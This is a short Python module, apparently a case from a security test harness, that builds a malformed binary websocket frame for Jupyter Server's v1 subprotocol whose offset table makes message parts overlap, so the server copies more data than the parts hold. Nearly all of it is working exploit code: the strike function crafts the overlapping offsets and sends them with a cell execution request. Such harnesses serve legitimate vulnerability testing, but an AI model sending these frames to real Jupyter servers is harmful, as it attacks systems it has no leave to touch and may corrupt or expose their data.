"""A cell in a frame whose parts lie over each other: Jupyter Server copies as many as it names, of whatever length."""

from __future__ import annotations

import json

from attack_house import Client, cell
from support.servers import V1

SUBPROTOCOL = V1
MALFORMED = True


def strike(client: Client, code: str) -> str:
    header = client.execute_header()
    parts = [b"shell", *(json.dumps(part).encode() for part in (header, {}, {}, cell(code)))]
    count = len(parts) + 3
    offsets = [8 * (1 + count)]
    for part in parts:
        offsets.append(offsets[-1] + len(part))
    offsets += [offsets[0], offsets[-1]]  # back to the first part, and once more over all of them
    table = b"".join(offset.to_bytes(8, "little") for offset in (count, *offsets))
    client.socket.send_binary(table + b"".join(parts))
    return str(header["msg_id"])
